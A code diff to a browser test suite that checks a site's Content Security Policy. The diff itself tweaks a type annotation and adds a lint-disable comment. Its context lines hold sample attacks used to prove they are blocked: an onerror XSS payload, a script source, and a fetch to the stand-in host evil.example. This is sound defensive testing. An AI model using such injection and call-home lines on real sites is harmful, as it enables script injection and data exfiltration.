@@ -8,7 +8,7 @@ for (const screen of screens()) {
     page.on("pageerror", (error) => complaints.push(error.message))
     await page.exposeFunction("noteViolation", (violation: string) => complaints.push(violation))
     await page.addInitScript(() => {
-      const note = (globalThis as unknown as { noteViolation(text: string): void }).noteViolation
+      const note = (globalThis as unknown as { noteViolation: (text: string) => void }).noteViolation
       addEventListener("securitypolicyviolation", (event) => note(`${event.violatedDirective}: ${event.blockedURI}`))
     })
     await page.goto(screen)
@@ -36,6 +36,7 @@ test("a script that got into the page cannot run, start a worker or call home", 
       html: await attempt(() => (document.body.innerHTML = "<img src=x onerror=alert(1)>")),
       address: await attempt(() => (script.src = "https://evil.example/x.js")),
       worker: await attempt(() => new Worker("/sw.js")),
+      // oxlint-disable-next-line typescript/no-implied-eval -- it is the point
       eval: await attempt(() => new Function("return 1")()),
       fetch: await attempt(() => fetch("https://evil.example/", { mode: "no-cors" })),
     }
